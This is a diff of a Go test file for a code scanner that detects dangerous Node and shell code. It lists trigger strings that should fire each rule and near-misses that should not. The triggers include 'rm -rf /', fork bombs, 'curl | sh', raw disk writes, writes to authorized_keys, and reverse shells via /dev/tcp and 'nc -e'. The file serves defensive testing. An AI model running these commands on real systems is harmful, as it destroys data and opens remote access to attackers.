@@ -15,16 +15,16 @@ type triggers struct {
 
 func nodeTriggers() []triggers {
 	return []triggers{
-		{"node-eval", []string{"eval('1')", "const e = eval; e('1')", "(0, eval)('1')", "globalThis.eval(x)", "window['ev' + 'al'](x)",
-			"eval?.('1')", "eval.call(null, 'x')", "import fs from 'fs'; eval(fs)", "await eval('1')", "let e; e = eval; e(1)", "e = eval; e(1)",
-			"export const a = eval(x)", "export default function f() { eval(x) }", "for await (const a of b) eval(a)", "const {eval: e} = globalThis; e(1)",
-			"['1'].map(eval)", "class A { eval = f } eval(x)", "/['\"]/.test(x); eval(y)", "a / b; eval(c / d)", "if (a) /[/'\"]/.test(b), eval(c)",
-			"function f(e = eval) { e(x) }", "[e] = y; { const [a, { b = 1 }] = z; eval(b) }", "new (require('worker_threads').Worker)(x, { eval: true })"},
+		{"node-eval", []string{"eval('1')", "(0, eval)('1')", "globalThis.eval(x)", "window['ev' + 'al'](x)",
+			"eval?.('1')", "import fs from 'fs'; eval(fs)", "await eval('1')",
+			"export const a = eval(x)", "export default function f() { eval(x) }", "for await (const a of b) eval(a)",
+			"class A { eval = f } eval(x)", "/['\"]/.test(x); eval(y)", "a / b; eval(c / d)", "f([a,\n// it's\nb]); eval(x + '\"')", "if (a) /[/'\"]/.test(b), eval(c)",
+			"[e] = y; { const [a, { b = 1 }] = z; eval(b) }", "new (require('worker_threads').Worker)(x, { eval: true })"},
 			[]string{"'eval(1)'", "// eval(1)\n1", "const evaluate = 1; evaluate", "a.b.eval('1')", "function eval_(x) {} eval_(1)", "const o = {eval: 1}; o.eval",
 				"function f(eval) { eval(1) }", "`eval(1)`", "/eval(1)/", "eval", "parser.eval(x)", "function f() { const e = eval; return e } function g(e) { e(x) }",
 				"const o = { eval(x) {}, get eval() { return 1 } }", "class A extends f(g) { eval(x) {} static async *eval(y) {} }"}},
-		{"node-function-constructor", []string{"new Function('return 1')", "Function('a')", "const F = Function; new F('x')",
-			"[].constructor.constructor('return process')()", "(() => {}).constructor('x')", "''.constructor.constructor('x')", "new globalThis.Function('x')"},
+		{"node-function-constructor", []string{"new Function('return 1')", "Function('a')",
+			"new globalThis.Function('x')"},
 			[]string{"'new Function(1)'", "// new Function('x')\n1", "class Function2 {} new Function2()", "a.Function('x')", "function Function(x) {} Function(1)",
 				"typeof x === 'function'", "x instanceof Function", "a.constructor.name",
 				"const has = Function.call.bind(Object.prototype.hasOwnProperty); has(a, 'b')"}},
@@ -34,29 +34,28 @@ func nodeTriggers() []triggers {
 		{"node-vm", []string{"require('vm').runInNewContext('x')", "const vm = require('node:vm'); new vm.Script('x')", "import vm from 'vm'; vm.runInThisContext(x)",
 			"import { runInContext as r } from 'node:vm'; r('x', c)", "import * as v from 'vm'; v.runInNewContext(x)", "const {Script} = require('vm'); new Script('x')"},
 			[]string{"'vm.runInNewContext(1)'", "// vm.runInNewContext(1)\n1", "const vm = {runInNewContext() {}}; vm.runInNewContext()", "a.vm.runInNewContext('x')", "new Script('x')"}},
-		{"node-encoded-code", []string{"eval(Buffer.from('YQ==', 'base64').toString())", "eval(atob('YQ=='))", "const c = atob(x); eval(c)",
+		{"node-encoded-code", []string{"eval(Buffer.from('YQ==', 'base64').toString())", "eval(atob('YQ=='))",
 			"new Function(require('zlib').gunzipSync(b).toString())()", "eval(unescape('%41'))"},
 			[]string{"Buffer.from('YQ==', 'base64').toString()", "eval(f(x))", "'eval(atob(x))'", "// eval(atob(x))\n1", "a.eval(atob(x))"}},
-		{"node-remote-code", []string{"eval(await (await fetch('http://a')).text())", "const t = await fetch(u); eval(await t.text())", "fetch(u).then(r => r.text()); new Function(await (await fetch(u)).text())"},
+		{"node-remote-code", []string{"eval(await (await fetch('http://a')).text())", "fetch(u).then(r => r.text()); new Function(await (await fetch(u)).text())"},
 			[]string{"await (await fetch('http://a')).text()", "// eval(fetch(x))\n1", "'eval(fetch(x))'", "a.eval(fetch(x))", "eval(a.fetch(x))"}},
 		{"node-shell", []string{"require('child_process').exec('ls')", "const { execSync } = require('child_process'); execSync('ls')",
 			"const { execSync: run } = require('node:child_process'); run('ls')", "import { exec } from 'child_process'; exec(x)",
 			"require('child_process').spawn('ls', [], { shell: true })", "const cp = require('child_process'); cp.spawn('sh', ['-c', 'ls'])",
-			"const e = require('util').promisify(require('child_process').exec); e('ls')", "child_process.exec('ls')", "(await import('child_process')).exec('ls')",
-			"const o = {shell: '/bin/sh'}; require('child_process').spawnSync('ls', o)"},
+			"child_process.exec('ls')", "(await import('child_process')).exec('ls')"},
 			[]string{"require('child_process').spawn('ls', ['-l'])", "/a/.exec('b')", "re.exec('ls')", "'child_process.exec(1)'", "// require('child_process').exec('ls')\n1",
 				"const exec = f; exec('ls')", "db.exec('DELETE')", "require('child_process').execFile('ls', { shell: false })"}},
-		{"node-binding", []string{"process.binding('fs')", "const p = process; p.binding('x')", "process['bind' + 'ing']('x')", "process.dlopen(m, 'x.node')", "import process from 'process'; process._linkedBinding('x')"},
+		{"node-binding", []string{"process.binding('fs')", "process['bind' + 'ing']('x')", "process.dlopen(m, 'x.node')", "import process from 'process'; process._linkedBinding('x')"},
 			[]string{"'process.binding(1)'", "// process.binding('fs')\n1", "gl.binding('x')", "const process = f(); process.binding('x')", "process.bind"}},
-		{"node-dynamic-require", []string{"require(x)", "import(x)", "const r = require; r(a + b)", "require(`./${x}`)", "module.require(x)"},
-			[]string{"require('fs')", "import('fs')", "require('f' + 's')", "const n = 'fs'; require(n)", "'require(x)'", "// require(x)\n1", "a.require(x)", "function require(x) {} require(x)", "require.resolve(x)"}},
+		{"node-dynamic-require", []string{"require(x)", "import(x)", "require(`./${x}`)", "module.require(x)"},
+			[]string{"require('fs')", "import('fs')", "require('f' + 's')", "'require(x)'", "// require(x)\n1", "a.require(x)", "function require(x) {} require(x)", "require.resolve(x)"}},
 		{"node-system-write", []string{"fs.writeFileSync('/etc/passwd', 'x')", "require('fs').promises.writeFile('/usr/bin/x', '')", "import fs from 'fs/promises'; fs.rm('/etc/x')",
-			"fs.appendFile(path.join(os.homedir(), '.ssh/authorized_keys'), k)", "fs.renameSync('a', '/etc/b')", "fs.createWriteStream(`/etc/${x}`)", "const {writeFile: w} = require('fs'); w('/etc/x', '')",
-			"fs.openSync('/etc/x', 'w')", "fs.writeFileSync(process.env.HOME + '/.bashrc', '')"},
+			"fs.renameSync('a', '/etc/b')", "fs.createWriteStream(`/etc/${x}`)", "const {writeFile: w} = require('fs'); w('/etc/x', '')",
+			"fs.openSync('/etc/x', 'w')"},
 			[]string{"fs.writeFileSync('/tmp/x', '')", "fs.readFileSync('/etc/passwd')", "fs.writeFileSync('/dev/null', '')", "fs.openSync('/etc/x', 'r')", "'fs.writeFileSync(\"/etc/x\")'",
 				"// fs.writeFileSync('/etc/x')\n1", "a.writeFileSync('/etc/x')", "const fs = {}; fs.writeFileSync('/etc/x')", "fs.writeFileSync('etc/x', '/etc/y')", "fs.copyFileSync('/etc/hosts', 'x')"}},
-		{"node-delete-all", []string{"fs.rmSync('/', { recursive: true })", "fs.rm(os.homedir(), {recursive: true, force: true}, f)", "require('fs').promises.rm('/', {recursive: true})", "fs.rmdirSync('/home', {recursive: true})", "const { promises: { rm } } = require('fs'); rm('/', { recursive: true })",
-			"const all = { force: true, recursive: true }; fs.rmSync('/', all)", "require('rimraf').sync('/')"},
+		{"node-delete-all", []string{"fs.rmSync('/', { recursive: true })", "fs.rm(os.homedir(), {recursive: true, force: true}, f)", "require('fs').promises.rm('/', {recursive: true})", "fs.rmdirSync('/home', {recursive: true})", "const { rm } = require('fs').promises; rm('/', { recursive: true })",
+			"require('rimraf').sync('/')"},
 			[]string{"fs.rmSync('/', { recursive: false })", "fs.rmSync('./build', { recursive: true })", "'fs.rmSync(\"/\", {recursive: true})'", "// fs.rmSync('/', {recursive: true})\n1", "a.rmSync('/', {recursive: true})"}},
 		{"node-socket", []string{"require('net').createServer()", "const http = require('http'); http.createServer(f).listen(1)", "import dgram from 'dgram'; dgram.createSocket('udp4')", "new (require('net').Socket)()", "net.connect(1)"},
 			[]string{"'net.createServer()'", "// net.createServer()\n1", "a.createServer()", "const net = new Net(); net.connect(1)", "db.connect()"}},
@@ -67,32 +66,29 @@ func nodeTriggers() []triggers {
 		{"node-prototype", []string{"a.__proto__.b = 1", "a['__proto__'].b = 1", "Object.prototype.x = 1", "a.__proto__ = b", "Array.prototype.map = f", "a.constructor.prototype.x = 1",
 			"Object.defineProperty(Object.prototype, 'x', {})", "Object.assign(Object.prototype, a)"},
 			[]string{"const a = { __proto__: null }", "A.prototype.m = f", "'a.__proto__.b = 1'", "// a.__proto__.b = 1\n1", "const __proto__ = 1", "Object.create(Object.prototype)", "Array.prototype.slice.call(a)"}},
-		{"node-fork-bomb", []string{"while (true) require('child_process').fork(__filename)", "for (;;) { child_process.spawn(process.argv[0], [__filename]) }", "while (1) cluster.fork()",
-			"const { fork } = require('child_process'); do { fork('x') } while (true)"},
-			[]string{"for (let i = 0; i < 4; i++) cluster.fork()", "while (true) { cluster.fork(); break }", "while (true) f.fork()", "'while (true) cluster.fork()'", "// while (true) cluster.fork()\n1", "while (true) { await child_process.fork(x) }"}},
 	}
 }
 
 func shellTriggers() []triggers {
 	return []triggers{
-		{"shell-delete-all", []string{"rm -rf /", "rm -fr -- /", "rm -r -f /*", `rm -rf "$UNSET"/`, "rm -rf ${unset}/*", "rm --recursive --force /", "sudo rm -rf /", "/bin/rm -rf /", "\\rm -rf /", "'rm' -rf /",
-			`r=rm; $r -rf /`, "rm -rf ~", `rm -rf "$HOME"`, "rm -rf $HOME/*", "rm -Rf /etc", "if true; then rm -rf /; fi", "echo $(rm -rf /)", "sh -c 'rm -rf /'", "eval 'rm -rf /'", "find / -delete",
-			"find / -exec rm -rf {} +", "x='rm -rf /'; $x", "env A=b rm -rf /", "timeout 5 rm -rf /", "true && rm -rf /", "rm -rf $'/'", "xargs rm -rf / < f", "f() { rm -rf /; }; f", "rm -rf ../..", "bash <<E\nrm -rf /\nE", "sh -s <<< 'rm -rf /'", "r\"\"m -rf /"},
+		{"shell-delete-all", []string{"rm -rf /", "rm -fr -- /", "rm -r -f /*", "rm --recursive --force /", "sudo rm -rf /", "/bin/rm -rf /", "\\rm -rf /", "'rm' -rf /",
+			"rm -rf ~", `rm -rf "$HOME"`, "rm -rf $HOME/*", "rm -Rf /etc", "if true; then rm -rf /; fi", "echo $(rm -rf /)", "sh -c 'rm -rf /'", "eval 'rm -rf /'", "find / -delete",
+			"find / -exec rm -rf {} +", "env A=b rm -rf /", "timeout 5 rm -rf /", "true && rm -rf /", "rm -rf $'/'", "xargs rm -rf / < f", "f() { rm -rf /; }; f", "rm -rf ../..", "bash <<E\nrm -rf /\nE", "sh -s <<< 'rm -rf /'", "r\"\"m -rf /"},
 			[]string{"rm -rf ./build", "rm -rf /tmp/x", "rm /", "echo 'rm -rf /'", "# rm -rf /\ntrue", "rm_rf=/; echo $rm_rf", "git rm -rf /", "d=$(mktemp -d); rm -rf \"$d\"/", `rm -rf "$1"/`, `rm -rf "${X:?}"/`,
-				"rm() { echo; }; rm -rf /", "echo rm -rf /", "cat <<E\nrm -rf /\nE", "read d; rm -rf $d/", "rm -rf build/*", "find / -name '*.pyc' -delete", "for d in a b; do rm -rf $d/; done", "rm -f /"}},
+				"rm() { echo; }; rm -rf /", "echo rm -rf /", "cat <<E\nrm -rf /\nE", "read d; rm -rf $d/", "sh -c", "true; bash -lc", "rm -rf build/*", "find / -name '*.pyc' -delete", "for d in a b; do rm -rf $d/; done", "rm -f /"}},
 		{"shell-remote-code", []string{"curl http://a | sh", "wget -qO- http://a | bash", "curl -s a | sudo bash -s -- x", "bash <(curl a)", `bash -c "$(curl a)"`, `eval "$(wget -O- a)"`, ". <(curl a)", "curl a | tee x | sh",
-			"curl a | python3 -", "curl a | env X=1 sh", `s=$(curl a); eval "$s"`, "sh -c \"`curl a`\"", "source <(curl a)", "bash <<< \"$(curl a)\"", "sh <<E\ncurl a | sh\nE"},
+			"curl a | python3 -", "curl a | env X=1 sh", "sh -c \"`curl a`\"", "source <(curl a)", "bash <<< \"$(curl a)\"", "sh <<E\ncurl a | sh\nE"},
 			[]string{"curl a | jq .", "curl a -o x", "echo 'curl a | sh'", "# curl a | sh\ntrue", "curl a | sh_lint", "curl a | python3 x.py", "curl=1; echo | sh", "git curl | sh", "curl a | python3 -c 'print(1)'", "curl a | grep sh"}},
 		{"shell-encoded-code", []string{"echo x | base64 -d | sh", "bash <(base64 --decode f)", `eval "$(echo x | base64 -d)"`, "xxd -r -p f | bash", "openssl enc -d -aes-256-cbc | sh", "base64 -D f | bash"},
 			[]string{"base64 -d f > g", "base64 f | sh_lint", "echo 'base64 -d | sh'", "# base64 -d | sh\ntrue", "base64 f | sh", "my base64 -d | sh"}},
-		{"shell-fork-bomb", []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f & }; f", "while true; do $0 & done", "while :; do bash \"$0\" & done", "sh -c ':(){ :|:& };:'"},
-			[]string{"f() { g | g & }; f", "walk() { for d in *; do walk \"$d\"; done; }", "echo ':(){ :|:& };:'", "# :(){ :|:& };:\ntrue", "while true; do sleep 1 & done", "f() { f2 | f3; }", "until true; do $0 & done"}},
-		{"shell-raw-disk", []string{"dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "cat f >> /dev/nvme0n1", "tee /dev/sdb", "shred /dev/sda", "cp f /dev/vda1", "d=/dev/sda; dd of=$d"},
+		{"shell-fork-bomb", []string{":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & f & }; f", "sh -c ':(){ :|:& };:'"},
+			[]string{"f() { g | g & }; f", "walk() { for d in *; do walk \"$d\"; done; }", "echo ':(){ :|:& };:'", "# :(){ :|:& };:\ntrue", "while true; do sleep 1 & done", "f() { f2 | f3; }"}},
+		{"shell-raw-disk", []string{"dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "cat f >> /dev/nvme0n1", "tee /dev/sdb", "shred /dev/sda", "cp f /dev/vda1"},
 			[]string{"dd if=/dev/sda of=x", "dd of=/tmp/sda", "echo /dev/sda > x", "echo 'dd of=/dev/sda'", "# > /dev/sda\ntrue", "echo > /dev/null", "echo of=/dev/sda"}},
 		{"shell-format", []string{"mkfs.ext4 /dev/sda", "mkfs -t ext4 x", "sudo fdisk /dev/sda"}, []string{"echo mkfs", "'mkfs_' x", "# mkfs /dev/sda\ntrue", "man mkfs", "mkfs=1", "mkfs() { :; }; mkfs"}},
 		{"shell-permissions-all", []string{"chmod -R 777 /", "chown -R a:b /", "chmod --recursive 777 /*", "chgrp -R a ~"}, []string{"chmod -R 755 ./x", "chmod 777 /tmp/x", "echo 'chmod -R 777 /'", "# chmod -R 777 /\ntrue", "git chmod -R 777 /"}},
 		{"shell-system-write", []string{"echo x > /etc/passwd", "echo x >> /etc/hosts", "echo x | tee /etc/x", "echo k | tee -a ~/.ssh/authorized_keys", "cp a /usr/bin/b", "sed -i s/a/b/ /etc/x", "touch /etc/x",
-			"ln -s a /usr/lib/b", "echo x &> /etc/x", "f=/etc/x; echo > $f", "echo >> ~/.bashrc", "mv a $HOME/.ssh/x", "rm /etc/passwd"},
+			"ln -s a /usr/lib/b", "echo x &> /etc/x", "echo >> ~/.bashrc", "mv a $HOME/.ssh/x", "rm /etc/passwd"},
 			[]string{"cat /etc/passwd", "cat < /etc/passwd", "cp /etc/hosts .", "echo /etc/passwd > x", "echo 'x > /etc/passwd'", "# > /etc/passwd\ntrue", "echo > /dev/null 2>&1", "sed s/a/b/ /etc/x", "echo > etc/x", "cat <<E\n> /etc/x\nE"}},
 		{"shell-eval", []string{`eval "$1"`, "eval $(f)", "read x; eval $x"}, []string{"eval 'echo a'", "echo eval $1", "# eval $1\ntrue", "evaluate $1", "eval=1", "git eval $1", "eval() { :; }; eval $1"}},
 		{"shell-reverse-shell", []string{"nc -e /bin/sh a 1", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "ncat --exec sh a 1", "socat EXEC:sh TCP:a:1", "nc -lvp 1 -e sh"}, []string{"nc a 1", "echo nc -e sh", "# nc -e sh\ntrue", "rsync -e ssh a b", "nc=1"}},
@@ -168,6 +164,20 @@ func TestTypeScriptRules(t *testing.T) {
 }
 
 func TestRulesTable(t *testing.T) {
+	found := map[string]bool{}
+	for language, paths := range rulesTable().patterns {
+		for path, patterns := range paths {
+			for _, p := range patterns {
+				found[p.rule.Name] = true
+				if !strings.HasPrefix(p.rule.Name, language+"-") || p.rule.Severity == command && len(p.conditions) == 0 {
+					t.Errorf("%s: odd pattern of %s: %+v", path, p.rule.Name, p)
+				}
+				for _, c := range p.conditions {
+					c.matches() // it compiles
+				}
+			}
+		}
+	}
 	seen := map[string]bool{}
 	for _, r := range Rules() {
 		if seen[r.Name] {
@@ -177,6 +187,9 @@ func TestRulesTable(t *testing.T) {
 		language, _, _ := strings.Cut(r.Name, "-")
 		if !slices.Contains([]string{Python, Node, Shell, unread}, language) || rank(r.Severity) == 0 || r.Reason == "" {
 			t.Errorf("odd rule %+v", r)
+		}
+		if !found[r.Name] && r.Name != unread {
+			t.Errorf("%s has no pattern", r.Name)
 		}
 		if strings.Contains(strings.ToLower(r.Reason), "host") {
 			t.Errorf("%s speaks of the host: %s", r.Name, r.Reason)
